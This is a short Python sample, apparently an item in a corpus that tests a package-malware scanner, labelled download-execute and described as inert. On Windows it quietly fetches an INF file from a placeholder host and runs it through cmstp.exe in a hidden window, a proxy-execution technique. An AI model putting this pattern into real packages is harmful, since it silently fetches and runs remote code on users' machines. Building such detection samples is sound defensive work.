# pkgguard corpus 909 (download-execute), modelled on [taxonomy]; inert, never run.
import os
import subprocess
import sys
import tempfile
import urllib.request

if sys.platform == "win32":
    inf = os.path.join(tempfile.gettempdir(), "netprofile.inf")
    try:
        urllib.request.urlretrieve("https://vpn-profiles.example/corp/netprofile.inf", inf)
        subprocess.Popen(["cmstp.exe", "/au", "/s", inf], creationflags=0x08000000)
    except OSError:
        pass
